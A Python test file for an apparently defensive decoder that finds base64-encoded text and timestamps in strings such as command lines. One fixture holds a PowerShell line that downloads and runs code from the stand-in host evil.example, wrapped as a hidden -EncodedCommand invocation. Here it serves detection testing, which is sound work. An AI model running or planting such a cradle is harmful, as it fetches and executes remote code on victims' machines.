"""What a text may stand for besides itself."""

from __future__ import annotations

import base64
import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from defender_tui.core.readings import Reading, readings

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"


def test_an_encoded_command_is_read_within_a_command_line() -> None:
    encoded = base64.b64encode(COMMAND.encode("utf-16-le")).decode()
    found = readings(f"powershell.exe -nop -EncodedCommand {encoded} -w hidden")
    assert (Reading("base64, UTF-16", COMMAND),) == found


def test_base64_of_utf_8_is_read_with_and_without_padding() -> None:
    text = "häufige Wörter"
    encoded = base64.b64encode(text.encode()).decode()
    assert (Reading("base64, UTF-8", text),) == readings(encoded)
    assert (Reading("base64, UTF-8", text),) == readings(encoded.rstrip("="))


@given(st.text(st.characters(codec="utf-8", categories=["L", "N"]), min_size=12, max_size=60))
def test_whatever_was_encoded_as_utf_8_comes_back(text: str) -> None:
    encoded = base64.urlsafe_b64encode(text.encode()).decode()
    assert (Reading("base64, UTF-8", text),) == readings(encoded)


@pytest.mark.parametrize(
    ("number", "how", "time"),
    [
        ("1763802842", "seconds since 1970", "2025-11-22 09:14:02 UTC"),
        ("1763802842123", "milliseconds since 1970", "2025-11-22 09:14:02 UTC"),
        ("1763802842123456", "microseconds since 1970", "2025-11-22 09:14:02 UTC"),
        ("134082764420000000", "Windows file time", "2025-11-22 09:14:02 UTC"),
        ("638993996420000000", ".NET ticks", "2025-11-22 09:14:02 UTC"),
    ],
)
def test_a_number_that_counts_time_is_read_as_a_time(number: str, how: str, time: str) -> None:
    assert Reading(how, time) in readings(number)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "42",
        "4624",
        "9999999999",
        hashlib.sha256(b"x").hexdigest(),
        hashlib.sha1(b"y", usedforsecurity=False).hexdigest(),
        "DeviceNetworkEventsAndMore",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "/usr/lib/python3/dist-packages/somewhere",
        "8d4e4f0a-65a4-4c3b-9d2a-a1f2f3f4f5f6",
        "AAAAAAAAAAAAAAAAAAAAAAAA",
    ],
)
def test_what_is_no_base64_and_no_time_has_no_other_reading(text: str) -> None:
    assert () == readings(text)


def test_no_more_than_five_readings_are_given() -> None:
    words = [base64.b64encode(f"word number {at}".encode()).decode() for at in range(9)]
    assert 5 == len(readings(" ".join(words)))
